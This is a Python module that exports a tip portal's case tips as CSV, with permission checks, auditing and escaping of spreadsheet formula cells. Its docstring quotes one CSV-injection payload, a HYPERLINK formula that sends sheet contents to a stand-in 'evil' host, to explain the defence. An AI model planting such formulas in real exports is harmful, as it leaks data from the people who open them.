"""Exports: a case's tips as CSV or a printable report, and the CSV writer every
export shares.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some also after a tab or carriage return): a tip that reads
``=HYPERLINK("http://evil/?"&A1, "click")`` would leak the sheet when a detective
opens the export. Such cells get a leading apostrophe (OWASP, "CSV Injection"),
which spreadsheets show as text.

Exporting is audited (who took which case's tips, how many, in which form) and
allowed to those who may handle the case's tips. The tipster's contact details are
not in an export: each reveal is audited on its own, on the tip's page.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from sqlalchemy import select

from portal.extensions import db
from portal.models import Case, Tip, User
from portal.services.appeals import CHANNEL_LABELS
from portal.services.audit import record_event
from portal.services.authz import Permission, can
from portal.services.errors import PermissionDenied

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_EXPORT_TIPS = 50_000


def safe_cell(value: Any) -> str:
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")  # RFC 4180
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()


TIP_COLUMNS = ("tip", "received (UTC)", "channel", "status", "seen when", "anonymous", "text")


def case_tips_for_export(case: Case, user: User, *, kind: str) -> list[Tip]:
    """The case's tips, oldest first, for ``kind`` ("csv" or "report"); audited."""
    if not can(user, Permission.TIP_TRIAGE, case):
        raise PermissionDenied("You may not export this case's tips.")
    tips = list(
        db.session.scalars(
            select(Tip)
            .where(Tip.case_id == case.id)
            .order_by(Tip.created_at, Tip.id)
            .limit(MAX_EXPORT_TIPS)
        )
    )
    record_event(
        "case.tips_export",
        agency_id=case.agency_id,
        actor=user,
        object_type="case",
        object_id=case.public_id,
        details={"format": kind, "tips": len(tips)},
    )
    return tips


def tip_row(tip: Tip) -> tuple[str, ...]:
    return (
        tip.number,
        tip.created_at.strftime("%Y-%m-%d %H:%M"),
        CHANNEL_LABELS.get(tip.channel, "The site itself"),
        tip.status,
        tip.seen_when,
        "yes" if tip.is_anonymous else "no",
        tip.body,
    )


def case_tips_csv(tips: Iterable[Tip]) -> str:
    return to_csv(TIP_COLUMNS, (tip_row(tip) for tip in tips))
